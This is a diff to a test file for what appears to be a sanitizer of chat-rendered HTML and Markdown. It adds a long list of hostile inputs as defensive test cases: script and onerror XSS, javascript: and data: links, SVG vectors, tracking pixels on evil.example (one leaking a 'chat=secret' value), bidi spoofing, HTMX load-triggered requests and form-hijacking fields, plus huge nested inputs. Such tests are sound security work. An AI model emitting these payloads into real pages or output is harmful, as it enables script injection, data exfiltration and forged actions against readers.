@@ -38,6 +38,54 @@ class Elements(HTMLParser):
 
 
 HOSTILE = [
+    # Comments and conditional ones, CDATA, processing instructions.
+    "<!--[if IE]><script>alert(1)</script><![endif]-->",
+    "<!--\n\n<img src=x onerror=alert(1)>\n\n-->",
+    "<?xml-stylesheet href='https://evil.example/x.css'?>",
+    # CSS in every place it may stand.
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<div style='background:url(https://evil.example/pixel)' class='toast'>x</div>",
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "| a |\n|:-:|\n| <td style='position:fixed'>x</td> |",
+    # SVG and what it can carry.
+    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
+    "<svg><foreignObject><iframe src=https://evil.example></iframe></foreignObject></svg>",
+    "<svg><use href='data:image/svg+xml;base64,PHN2Zy8+#x'/></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    # data: links, and schemes that only look like harmless ones.
+    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
+    "[x](DATA:text/html,<script>alert(1)</script>)",
+    "[x](  javascript:alert(1))",
+    "[x](\x01javascript:alert(1))",
+    "[x](https&#58;//e.example\tonclick=alert(1))",
+    "[x](blob:https://evil.example/1)",
+    "[x](intent://evil#Intent;scheme=http;end)",
+    # Remote images in every way there is to write one.
+    "![a](//evil.example/pixel.png)",
+    "![a](<https://evil.example/pixel.png?chat=secret>)",
+    "<picture><source srcset=https://evil.example/pixel.png></picture>",
+    "<video poster=https://evil.example/pixel.png src=https://evil.example/v>",
+    "<input type=image src=https://evil.example/pixel.png>",
+    "<body background=https://evil.example/pixel.png>",
+    "<table background=https://evil.example/pixel.png><tr><td>x</table>",
+    "[![a](https://evil.example/p.png)](javascript:alert(1))",
+    # Right to left, and letters that are not seen.
+    "\u202e\u2066evil\u2069.example\u202c [https://bank.example](https://evil.example)",
+    "[a\u202eb](https://e.example/\u202egnp.exe)",
+    "`code\u202e reversed`",
+    # HTMX would act on its attributes: a model must not speak to this site in the reader's name.
+    "<div hx-get=/accounts/logout/ hx-trigger=load>x</div>",
+    "<button hx-post=/keys/new/ data-hx-trigger=load>x</button>",
+    "<a href=https://e.example data-copy=x data-opens='#confirm-dialog'>x</a>",
+    '```"><div hx-get="/keys/" hx-trigger="load">\ncode\n```',
+    "<form><button formaction=javascript:alert(1)>x</form>",
+    "<textarea name=message form=composer>x</textarea>",
+    "<input name=tools form=composer value=x>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
+    "<object data=https://evil.example></object><embed src=https://evil.example>",
+    "$\\class{toast}{x} \\cssId{main}{x} \\style{position:fixed}{x}$",
     "<script>alert(1)</script>",
     "text <script src=https://evil.example/x.js></script>",
     "<img src=x onerror=alert(1)>",
@@ -120,6 +168,9 @@ def test_the_allow_list_alone_would_hold_too() -> None:
 
 
 LARGE = {
+    "nested quotes of three kinds": "> - 1. " * 5_000 + "deep",
+    "nested links": "[" * 5_000 + "a" + "](https://e.example)" * 5_000,
+    "comments": "<!--" * 20_000,
     "nested quotes": "> " * 10_000 + "deep",
     "nested quotes without spaces": ">" * 10_000,
     "nested lists": "- " * 10_000 + "deep",
